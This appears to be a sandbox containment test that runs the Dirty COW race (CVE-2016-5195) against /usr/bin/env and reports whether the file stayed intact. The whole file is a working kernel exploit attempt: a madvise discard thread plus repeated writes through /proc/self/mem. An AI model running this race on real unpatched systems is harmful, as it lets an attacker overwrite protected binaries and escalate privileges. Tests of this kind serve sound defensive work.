# expect: held
# The program writes to a read-only mapping of a system file through /proc/self/mem, while another thread discards the mapped pages
# (CVE-2016-5195).
# layers: kernel
import threading
with open("/usr/bin/env", "rb") as f:
    before = f.read(4096)
libc.mmap.restype = ctypes.c_void_p
fd = os.open("/usr/bin/env", os.O_RDONLY)
at = libc.mmap(None, ctypes.c_size_t(4096), 1, 2, fd, ctypes.c_long(0))
stop = False
def discard():
    while not stop:
        libc.madvise(ctypes.c_void_p(at), ctypes.c_size_t(4096), 4)
t = threading.Thread(target=discard)
t.start()
try:
    with open("/proc/self/mem", "r+b", buffering=0) as mem:
        for _ in range(2000):
            mem.seek(at)
            mem.write(b"dirty")
except OSError as e:
    held(f"/proc/self/mem: {name_of(e.errno)}")
stop = True
t.join()
(held if open("/usr/bin/env", "rb").read(4096) == before else escaped)("/usr/bin/env is as it was")
